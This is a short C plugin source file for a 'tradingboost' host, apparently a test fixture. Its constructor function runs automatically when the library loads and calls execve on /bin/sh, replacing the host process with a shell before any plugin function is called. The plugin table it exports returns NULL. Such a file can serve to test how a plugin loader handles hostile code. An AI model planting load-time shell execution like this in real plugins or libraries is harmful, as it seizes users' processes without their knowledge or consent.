// A plugin that asks for a new program before anybody called it: when it is loaded.
#define _GNU_SOURCE
#include "tradingboost.h"

#include <sys/syscall.h>
#include <unistd.h>

__attribute__((constructor)) static void run_when_loaded(void) { syscall(SYS_execve, "/bin/sh", NULL, NULL); }

const tradingboost_plugin_table *tradingboost_plugin(void) { return NULL; }
